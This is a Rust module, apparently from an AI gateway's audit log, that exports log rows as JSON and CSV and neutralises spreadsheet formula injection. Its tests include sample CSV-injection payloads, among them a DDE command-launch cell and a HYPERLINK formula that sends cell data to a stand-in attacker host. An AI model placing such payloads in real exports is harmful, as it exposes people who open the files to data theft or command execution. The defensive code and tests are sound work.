//! The forms rows leave in: JSON (one object per row, for JSON lines and the query
//! endpoint), exactly as stored, and CSV, made safe to open in a spreadsheet.

use std::borrow::Cow;

use serde_json::{Map, Value};

use super::row::Chained;
use super::time;

/// The row as a JSON object: `at` as UTC text first, JSON fields as JSON, hashes
/// as hex.
pub fn json(row: &Chained) -> Value {
    let mut object = Map::new();
    object.insert("at".to_owned(), Value::String(time::format(row.row.at_us)));
    if let Ok(Value::Object(fields)) = serde_json::to_value(row) {
        object.extend(fields);
    }
    Value::Object(object)
}

/// The CSV columns, in order.
pub const CSV_HEADER: &[&str] = &[
    "at",
    "instance",
    "seq",
    "request_id",
    "tenant",
    "client_key",
    "end_user",
    "route",
    "alias",
    "target",
    "attempts",
    "cache",
    "local_fallback",
    "stream",
    "status",
    "outcome",
    "error",
    "latency_us",
    "ttft_us",
    "prompt_tokens",
    "completion_tokens",
    "cost",
    "pii",
    "prompt",
    "answer",
    "passages",
    "client_ip",
    "user_agent",
    "prev_hash",
    "row_hash",
    "cached_tokens",
];

/// One CSV record (RFC 4180: fields holding commas, quotes or line breaks are
/// quoted, quotes doubled), ending in CRLF. Text cells are [`defused`]; the cells
/// written from numbers, flags, times and hashes cannot hold a formula and are
/// left as they are, so a spreadsheet still reads them as numbers.
pub fn csv_line(c: &Chained) -> String {
    let r = &c.row;
    let text = |v: &str| defused(v).into_owned();
    let opt = |v: &Option<String>| v.as_deref().map(text).unwrap_or_default();
    let num = |v: Option<i64>| v.map(|n| n.to_string()).unwrap_or_default();
    let fields = [
        time::format(r.at_us),
        text(&c.instance),
        c.seq.to_string(),
        text(&r.request_id),
        opt(&r.tenant),
        opt(&r.client_key),
        opt(&r.end_user),
        text(&r.route),
        opt(&r.alias),
        opt(&r.target),
        text(r.attempts.get()),
        opt(&r.cache),
        r.local_fallback.to_string(),
        r.stream.to_string(),
        r.status.to_string(),
        text(&r.outcome),
        opt(&r.error),
        r.latency_us.to_string(),
        num(r.ttft_us),
        num(r.prompt_tokens),
        num(r.completion_tokens),
        r.cost.map(|c| c.to_string()).unwrap_or_default(),
        text(r.pii.get()),
        opt(&r.prompt),
        opt(&r.answer),
        text(r.passages.get()),
        opt(&r.client_ip),
        opt(&r.user_agent),
        crate::encode::hex(&c.prev_hash),
        crate::encode::hex(&c.row_hash),
        num(r.cached_tokens),
    ];
    record(&fields)
}

/// One CSV record of `fields` as they are (quoted where RFC 4180 asks), ending in
/// CRLF; text a spreadsheet could run is [`defused`] by the caller.
pub fn record(fields: &[String]) -> String {
    let mut line = fields
        .iter()
        .map(|f| quote(f))
        .collect::<Vec<_>>()
        .join(",");
    line.push_str("\r\n");
    line
}

/// A text cell a spreadsheet would run as a formula, prefixed with `'` so it is
/// shown as text instead (OWASP's advice on CSV injection): a cell that starts
/// with `=`, `+`, `-`, `@`, a tab or a carriage return, or with any of `=+-@`, or
/// their full-width forms `＝＋－＠` (which CJK spreadsheets may take for them),
/// after leading whitespace. Prompts and answers are user text, so no cell that
/// can hold them is trusted.
pub fn defused(cell: &str) -> Cow<'_, str> {
    const TRIGGERS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
    let starts_a_formula =
        cell.starts_with(['\t', '\r']) || cell.trim_start().starts_with(TRIGGERS);
    match starts_a_formula {
        true => Cow::Owned(format!("'{cell}")),
        false => Cow::Borrowed(cell),
    }
}

pub fn csv_header() -> String {
    format!("{}\r\n", CSV_HEADER.join(","))
}

fn quote(field: &str) -> String {
    if field.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::chain::{Head, link};
    use crate::audit::row::tests::sample;

    #[test]
    fn csv_quotes_what_needs_it_and_matches_the_header() {
        let mut row = sample("r1");
        row.answer = Some("line one\nsaid \"hi\", then left".into());
        let (chained, _) = link("gw", Head::EMPTY, &[row]);
        let line = csv_line(&chained[0]);
        assert!(
            line.contains("\"line one\nsaid \"\"hi\"\", then left\""),
            "{line}"
        );
        assert!(line.ends_with("\r\n"));
        let json = json(&chained[0]);
        assert_eq!(json["at"], "2026-11-18T11:06:40.000000Z");
        assert_eq!(json["seq"], 1);
        assert_eq!(json["attempts"], serde_json::json!([]));
        assert_eq!(CSV_HEADER.len(), 31);
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_defused() {
        for (cell, shown) in [
            ("=1+1", "'=1+1"),
            ("+86 138", "'+86 138"),
            ("-2", "'-2"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("\tplain", "'\tplain"),
            ("  =cmd|' /C calc'!A0", "'  =cmd|' /C calc'!A0"),
            ("\n=1", "'\n=1"),
            ("＝1＋1", "'＝1＋1"),
            ("\u{3000}＠x", "'\u{3000}＠x"),
            ("－5", "'－5"),
        ] {
            assert_eq!(defused(cell), shown, "{cell:?}");
        }
        for plain in [
            "",
            "hello",
            "a=b",
            "1-2",
            "'=already",
            "[]",
            "{}",
            "退款 = 7 天",
        ] {
            assert_eq!(defused(plain), plain, "{plain:?}");
        }
    }

    #[test]
    fn csv_defuses_text_and_leaves_numbers_and_json_exact() {
        let mut row = sample("r1");
        let prompt = r#"=HYPERLINK("http://evil.example/?d="&A1,"Click")"#;
        row.prompt = Some(prompt.into());
        row.answer = Some("-1 is the answer".into());
        row.user_agent = Some("@agent".into());
        row.latency_us = -5;
        row.cost = Some(-0.25);
        let (chained, _) = link("gw", Head::EMPTY, &[row]);
        let line = csv_line(&chained[0]);
        assert!(
            line.contains(r#""'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")""#),
            "{line}"
        );
        assert!(line.contains(",'-1 is the answer,"), "{line}");
        assert!(line.contains(",'@agent,"), "{line}");
        assert!(
            line.contains(",-5,") && line.contains(",-0.25,"),
            "numbers stay numbers: {line}"
        );
        let json = json(&chained[0]);
        assert_eq!(json["prompt"], prompt);
        assert_eq!(json["answer"], "-1 is the answer");
        assert_eq!(json["user_agent"], "@agent");
    }
}
